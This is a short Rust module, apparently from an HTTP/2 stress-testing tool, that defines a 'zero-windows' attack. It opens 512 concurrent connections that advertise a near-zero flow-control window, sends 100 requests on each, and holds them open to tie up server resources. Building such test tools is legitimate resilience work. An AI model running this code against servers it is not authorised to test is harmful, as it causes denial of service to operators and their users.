//! Sends requests, and leaves no HTTP/2 window for the answers.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "zero-windows",
    about: "Sends requests, and leaves no HTTP/2 window for the answers",
    targets: WITH_HTTP2,
    attackers: 512,
    leaves_answers: true,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let window = fastrand::u32(..2);
    let mut stream = aim.connect_http2(&[(frames::INITIAL_WINDOW_SIZE, window)]).await?;
    let requests: Vec<u8> = (0..100).flat_map(|n| frames::get(2 * n + 1)).collect();
    stream.write_all(&requests).await?;
    aim.hold(stream).await;
    Ok(())
}
